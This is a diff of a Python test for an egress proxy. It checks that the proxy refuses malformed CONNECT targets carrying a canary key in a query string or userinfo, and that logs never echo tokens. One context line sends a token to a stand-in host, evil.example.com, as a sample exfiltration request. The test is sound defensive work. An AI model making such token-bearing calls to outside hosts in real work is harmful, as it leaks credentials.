@@ -396,6 +396,11 @@ def test_logs_hold_no_query_strings_bodies_or_credentials(airlock, standin):
     curl(airlock, f"https://evil.example.com/path?token={canary}-denied")
     path_token = "q7Zp3CANARYpathToken0123456789"  # a credential carried in a path segment
     curl(airlock, f"https://api.openai.com/bot42:{path_token}/sendMessage")
+    # Malformed CONNECT targets: a query string and userinfo are refused and not echoed into the log.
+    for target in (f"api.openai.com:443?key={canary}-connect", f"user:{canary}-userinfo@api.openai.com:443"):
+        with socket.create_connection(("127.0.0.1", airlock.port), timeout=10) as sock:
+            sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n".encode())
+            assert read_response(sock).split(b" ")[1] in (b"400", b"403")
     airlock.stop()
     output = airlock.output()
     assert "request" in output and "/v1/models" in output and "/bot42:{id}/sendMessage" in output
